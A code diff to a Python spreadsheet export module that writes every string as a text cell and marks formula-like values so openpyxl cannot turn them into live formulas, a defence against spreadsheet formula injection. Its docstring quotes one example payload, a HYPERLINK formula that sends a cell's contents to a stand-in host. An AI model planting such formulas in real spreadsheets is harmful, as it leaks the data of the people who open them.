@@ -17,6 +17,7 @@ from core.export import (
     ExportData,
     Table,
     breakdown_table,
+    is_formula_like,
     notes_table,
     rankings_table,
     receipts_table,
@@ -39,14 +40,34 @@ def _cell(value: object, lang: str) -> object:
     return value
 
 
+def put(sheet: Any, row: int, column: int, value: object) -> Any:
+    """Write one cell; a text is always stored as a text cell, never as a formula.
+
+    openpyxl turns any string starting with "=" into a formula; a note like
+    `=HYPERLINK("https://x/?leak="&A1, "…")` would then become a live link that sends a
+    cell out. Setting the type back to string keeps the exact text, and `quotePrefix`
+    is the flag Excel sets itself when someone types '=…, so editing the cell later
+    does not turn it into a formula either (OWASP CSV injection, also + - @ tab CR).
+    """
+    cell = sheet.cell(row=row, column=column)
+    cell.value = value
+    if isinstance(value, str):
+        cell.data_type = "s"
+        if is_formula_like(value):
+            cell.quotePrefix = True
+    return cell
+
+
 def _add_table(workbook: Any, title: str, table: Table, lang: str) -> Any:
     from openpyxl.styles import Alignment, Font, PatternFill
     from openpyxl.utils import get_column_letter
 
     sheet = workbook.create_sheet(title=title[:31])  # Excel's sheet-name limit
-    sheet.append(list(table.headers))
-    for row in table.rows:
-        sheet.append([_cell(v, lang) for v in row])
+    for column, header in enumerate(table.headers, start=1):
+        put(sheet, 1, column, header)
+    for row_no, row in enumerate(table.rows, start=2):
+        for column, value in enumerate(row, start=1):
+            put(sheet, row_no, column, _cell(value, lang))
     header_fill = PatternFill("solid", fgColor="EEF3F8")
     for cell in sheet[1]:
         cell.font = Font(bold=True)
@@ -93,7 +114,7 @@ def build_xlsx(data: ExportData, lang: str, chart_png: bytes) -> bytes:
     workbook = Workbook()
     chart_sheet = workbook.active
     chart_sheet.title = t("export.sheet.chart", lang)[:31]
-    chart_sheet["A1"] = f"{t('export.report_title', lang)}: {data.workshop.name}"
+    put(chart_sheet, 1, 1, f"{t('export.report_title', lang)}: {data.workshop.name}")
     image = Image(io.BytesIO(chart_png))
     chart_sheet.add_image(image, "A3")
     _add_table(workbook, t("export.sheet.tally", lang), tally_table(data, lang), lang)
